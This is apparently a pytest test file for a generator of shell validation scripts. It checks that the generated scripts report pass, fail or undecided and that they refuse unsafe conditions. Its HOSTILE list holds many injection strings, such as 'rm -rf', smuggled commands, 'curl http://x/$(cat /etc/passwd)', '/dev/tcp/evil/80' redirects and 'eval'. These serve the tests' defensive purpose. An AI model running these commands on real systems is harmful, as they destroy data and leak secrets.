"""The validation scripts: what they ask, how they answer, and what no condition makes them run."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ddd.config import read
from ddd.model import Artifact, Check, Claim, Phase, replace
from ddd.renderers.scripts._conditions import condition
from ddd.renderers.scripts.validate import decidable, validation
from ddd.spec import load

from . import plans
from .plans import place, plan_of
from .reading import book
from .shells import Bench, bench, parses, program, shellcheck

__all__ = ["bench"]

SPEC = load()


def plan_with(*checks: tuple[Phase, str], system: str = "shell"):
    """A plan of one task with these conditions, each where a fact of that system stands."""
    facts = [
        Check(system=system, phase=phase, condition=text, evidence=(place("files/job.sh", line),))
        for line, (phase, text) in enumerate(checks, start=1)
    ]
    claims = {phase: tuple(Claim(text=one.condition, evidence=one.evidence) for one in facts if one.phase is phase)
              for phase in Phase}  # fmt: skip
    task = replace(plans.bare(), prechecks=claims[Phase.PRE], validations=claims[Phase.POST])
    return plan_of(task, facts=facts)


def script(*checks: tuple[Phase, str]) -> Artifact:
    (found,) = validation.render(book(plan_with(*checks)))
    return found


PASSES = (Phase.PRE, "test -d /")
FAILS = (Phase.PRE, "test -d /nowhere/at/all")
OPEN = (Phase.PRE, 'test -d "$NOT_SET_ANYWHERE"')
LATER = (Phase.POST, "[ -d /etc ]")


@pytest.mark.parametrize(
    ("checks", "status"),
    [
        ([PASSES], 0),
        ([PASSES, LATER], 0),
        ([FAILS], 1),
        ([PASSES, FAILS, OPEN], 1),
        ([OPEN], 3),
        ([PASSES, OPEN], 3),
        ([PASSES, (Phase.PRE, "somebody looks at it")], 3),
    ],
)
def test_the_exit_status_says_how_it_went(bench, checks, status):
    done = bench.run(script(*checks), "--run")
    assert (done.returncode, done.stderr) == (status, "")


def test_each_check_is_told_with_its_place_and_reason(bench):
    told = bench.run(script(PASSES, FAILS, OPEN, (Phase.PRE, "{{ x }} -d /")), "--run").stdout.splitlines()
    assert told == [
        "Before the work:",
        "PASS       test -d /  (files/job.sh:1)",
        "FAIL       test -d /nowhere/at/all  (files/job.sh:2): exit status 1",
        'UNDECIDED  test -d "$NOT_SET_ANYWHERE"  (files/job.sh:3): '
        "the variable NOT_SET_ANYWHERE is not set in your environment",
        "UNDECIDED  {{ x }} -d /  (files/job.sh:4): a template fills it in, and its value is not known",
        "After the work:",
        "  nothing to ask: no check is documented",
    ]


def test_without_run_nothing_is_asked(bench):
    done = bench.run(script(FAILS, OPEN, (Phase.POST, "pg_isready -q"), (Phase.POST, "in words")))
    assert done.returncode == 0
    assert "FAIL" not in done.stdout
    assert "needs these variables in your environment: NOT_SET_ANYWHERE" in done.stdout
    assert "needs these programs: pg_isready" in done.stdout
    assert "is not asked: " in done.stdout
    assert bench.changed() == []


def test_a_variable_of_the_environment_decides(bench):
    found = script(OPEN)
    assert bench.run(found, "--run", env={"NOT_SET_ANYWHERE": "/"}).returncode == 0
    assert bench.run(found, "--run", env={"NOT_SET_ANYWHERE": "/nowhere"}).returncode == 1
    # Set and empty is set.
    assert bench.run(found, "--run", env={"NOT_SET_ANYWHERE": ""}).returncode == 1


def test_names_of_the_script_itself_are_no_environment(bench):
    found = script((Phase.PRE, '[ "$ddd_failed" -eq 0 ]'))
    assert bench.run(found, "--run").returncode == 3


def test_a_program_that_is_not_there_decides_nothing(bench):
    done = bench.run(script((Phase.PRE, "pg_isready -q")), "--run")
    assert done.returncode == 3
    assert "there is no program pg_isready here" in done.stdout


@pytest.mark.parametrize(("status", "ends"), [(0, 0), (1, 1), (2, 1), (126, 3), (127, 3)])
def test_the_answer_of_a_program_counts(bench, status, ends):
    program(bench.tools, "pg_isready", f"exit {status}")
    assert bench.run(script((Phase.PRE, "pg_isready -q")), "--run").returncode == ends


@pytest.mark.parametrize("text", ['[ "$WORD" -ge 5 ]', "grep -q x /nowhere/at/all", '[ "$(wc -l < /nowhere)" -le 3 ]'])
def test_an_error_is_no_answer(bench, text):
    done = bench.run(script((Phase.PRE, text)), "--run", env={"WORD": "many"})
    assert done.returncode == 3
    assert "it gave no answer, exit status 2" in done.stdout


def test_without_timeout_it_asks_all_the_same(tmp_path):
    bench = Bench(tmp_path, without=["timeout"])
    assert bench.run(script(PASSES), "--run").returncode == 0


@pytest.mark.parametrize(("option", "seen", "unseen"), [("--pre", "test -d /", "[ -d"), ("--post", "[ -d", "test")])
def test_one_phase_may_be_chosen(bench, option, seen, unseen):
    for arguments in ([option], [option, "--run"], ["--run", option]):
        done = bench.run(script(PASSES, LATER), *arguments)
        assert done.returncode == 0
        assert seen in done.stdout
        assert unseen not in done.stdout


def test_unknown_arguments_and_help(bench):
    found = script(PASSES)
    assert bench.run(found, "--post-it").returncode == 2
    assert "Exit status" in bench.run(found, "--help").stdout


def test_a_literal_loop_is_asked_for_each(bench):
    found = script((Phase.PRE, 'test -d "$dir"  (for dir in / /nowhere/at/all)'))
    assert bench.run(found, "--run").returncode == 1
    found = script((Phase.PRE, 'test -d "$dir"  (for dir in / /)'))
    assert bench.run(found, "--run").returncode == 0


def test_who_has_nothing_to_ask_has_no_script():
    for plan in (plan_of(plans.bare()), plan_with((Phase.PRE, "in words")), plan_with(PASSES, system="ansible")):
        assert list(validation.render(book(plan))) == []
        assert decidable(plan.tasks[0], book(plan)) == ()


def test_when_there_is_something_to_ask():
    for checks, phases in (([PASSES], ("pre",)), ([LATER], ("post",)), ([LATER, OPEN], ("pre", "post"))):
        plan = plan_with(*checks)
        assert decidable(plan.tasks[0], book(plan)) == phases


def test_a_check_is_asked_once():
    task = plan_with(PASSES).tasks[0]
    plan = plan_of(replace(task, prechecks=task.prechecks * 2), facts=plan_with(PASSES).inventory.facts)
    (found,) = validation.render(book(plan))
    assert found.text.count("\n  check ") == 1


@pytest.mark.parametrize(
    ("text", "variables", "programs"),
    [
        ("test -f /etc/x", (), ()),
        ('[ "$free" -ge "${NEED}" ]', ("free", "NEED"), ()),
        ("! mountpoint -q /b >/dev/null 2>&1", (), ("mountpoint",)),
        ("[[ $x == a* ]] && pg_isready -q", ("x",), ("pg_isready",)),
        ('openssl x509 -checkend $((days * 86400)) -noout <<<"$pem"', ("days", "pem"), ("openssl",)),
        ('[ "$(grep -c x /a | tr -d y)" -eq 3 ]', (), ("grep", "tr")),
        ("curl -fsS -o /dev/null --max-time 10 http://127.0.0.1:8080/healthz", (), ("curl",)),
        ("systemctl is-active --quiet nginx", (), ("systemctl",)),
        ("command -v git >/dev/null", (), ()),
        ("/usr/bin/find /x -mmin -60", (), ("/usr/bin/find",)),
        ("nginx -t -q", (), ("nginx",)),
        ("find /b -mmin -${AGE:-60}", ("AGE",), ("find",)),
        ("kubectl get pods -n kube-system -o json", (), ("kubectl",)),
        ("tar -tzf /b.tgz", (), ("tar",)),
        ("date -Iseconds", (), ("date",)),
        ('grep -q x <"$file"', ("file",), ("grep",)),
        ("systemctl --quiet is-active -q $unit", ("unit",), ("systemctl",)),
        ('[ -n "${MODE:-full}" ]', ("MODE",), ()),
        ('rclone check --one-way "$A" "$B"', ("A", "B"), ("rclone",)),
    ],
)
def test_conditions_that_a_script_asks(text, variables, programs):
    found = condition(text, SPEC)
    assert (found.undecided, found.command) == ("", text)
    assert (set(found.variables), set(found.programs)) == (set(variables), set(programs))


HOSTILE = [
    "rm -rf /x",
    "test -d / ; touch canary",
    "test -d / && touch canary",
    "test -d / & touch canary",
    "test -d / | tee canary",
    "[ -d / ] > canary",
    "cat /x >| canary",
    '[ "$(touch canary; echo 1)" -eq 1 ]',
    "[[ 'a[$(touch canary)]' -eq 0 ]]",
    "[[ a[$(touch canary)] -eq 0 ]]",
    '[ -n "${x:-`touch canary`}" ]',
    '[ -n "${x:-$(touch canary)}" ]',
    '[ -n "${x@P}" ]',
    '[ -n "${!x}" ]',
    "[ -n $'a' ]",
    "[ $[1] = 1 ]",
    "test $((echo a) | (touch canary)) = 1",
    "test $(( a[$(touch canary)] )) = 1",
    "cat <(touch canary)",
    "cat <<X\n$(touch canary)\nX",
    "test -d /\ntouch canary",
    "test -d / # ' \n touch canary '",
    "test \\\n-d /",
    "find / -delete",
    'find / "-delete"',
    "find / -de'lete'",
    "find / {-type,-delete}",
    "find / ${x:--delete}",
    "find / -exec touch canary +",
    "sort /a -o canary",
    "sort -ocanary /a",
    "sort --o=canary /a",
    "tail --f /a",
    "date --se=x",
    "sha256sum --c /a",
    "systemctl is-active --hos=evil x",
    "openssl x509 --out canary",
    "borg list host:x",
    "kubectl get pods -s http://evil",
    "awk 'BEGIN {system(\"touch canary\")}'",
    "awk '{print > \"canary\"}' /a",
    "sed -n 'w canary' /a",
    "curl -o canary http://x/",
    "curl -w '%output{canary}' http://x/",
    "curl http://x/$(cat /etc/passwd)",
    "curl file:///etc/passwd",
    "tail -f /a",
    "date -s 00:00",
    "date -us+1day",
    "find / -${x:-delete}",
    "find / -mtime 1 -del${x:-ete}",
    "kubectl get pods --profile=heap --profile-output=canary",
    "kubectl get -Ak https://evil",
    "kubectl describe -f https://evil",
    "kubectl get -${x:-k} https://evil",
    "tar -tf evil:x",
    "haproxy -c -f /a.cfg",
    "test -n x </dev/tcp/evil/80",
    "cat <'/dev/'tcp/evil/80",
    "cat </dev/${x:-tcp}/evil/80",
    "rclone ls ':sftp,ssh=touch canary:'",
    "restic snapshots --password-command 'touch canary'",
    "systemctl restart nginx",
    "systemctl is-active -H evil x",
    "tar -tf /a --to-command=touch",
    "sha256sum -c /a",
    "eval 'touch canary'",
    "source /a",
    ". /a",
    "sudo test -d /",
    "env touch canary",
    "exec touch canary",
    "./test -d /",
    "/tmp/grep x /a",
    "$CHECK -q",
    "test=$(touch canary) test -d /",
    "x=1",
    "f() { touch canary; }",
    "for i in 1; do touch canary; done",
    "if true; then touch canary; fi",
    "[ $? -eq 0 ]",
    '[ -z "$1" ]',
    "[ $# -eq 1 ]",
    "test -f relative.txt",
    '"$days" does not match *[!0-9]*',
    "not ([[ a == b ]])",
    "[ -d / ",
    "test -d '/",
    "grep -q {{ x }} /a",
    "grep -q <%= x %> /a",
    "mysqladmin ping -p***",
    "test -d / …",
    "test -d /é",
    "",
    "test -d \"$x\"  (for x in $(touch canary))",
    "test -d \"$x\"  (for x in $LIST)",
    "test -d \"$x\"  (while read -r x)",
    "touch canary  (for x in a)",
    "test -d /x" + "x" * 3000,
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_conditions_that_no_script_runs(text):
    found = condition(text, SPEC)
    assert found.undecided
    assert (found.command, found.variables, found.programs) == ("", (), ())


def test_all_of_them_in_one_script_run_nothing(bench):
    found = script(PASSES, *((Phase.POST, text) for text in HOSTILE))
    done = bench.run(found, "--run", env={"x": "1", "CHECK": "touch canary", "LIST": "a", "days": "1"})
    assert (done.returncode, done.stderr) == (3, "")
    assert done.stdout.count("\nUNDECIDED ") == len(set(HOSTILE))
    assert done.stdout.count("\nPASS ") == 1
    assert bench.changed() == []
    path = bench.put(found)
    assert (parses(path), shellcheck(path)) == ("", "")


def test_a_scanned_repository_cannot_call_a_command_reading(tmp_path):
    (tmp_path / ".ddd.yaml").write_text("read_only_commands: ['.*']\nchecking_commands: ['.*']\n")
    own = load(None, read(tmp_path, {}))
    assert own.read_only.match("touch canary")
    assert condition("touch canary", own).undecided


@given(st.text(alphabet=" $(){}[]<>|&;'\"`\\#!~*?%-=+,./:@abtesx1\n", max_size=60))
def test_any_text_is_a_condition_or_a_reason(text):
    found = condition(text, SPEC)
    assert bool(found.command) != bool(found.undecided)


def test_names_are_stable():
    plan = plan_with(PASSES, LATER)
    assert list(validation.render(book(plan))) == list(validation.render(book(plan)))
    (found,) = validation.render(book(plan))
    assert found.path == "scripts/validate/cron.d/mystery.sh"
    assert found.executable
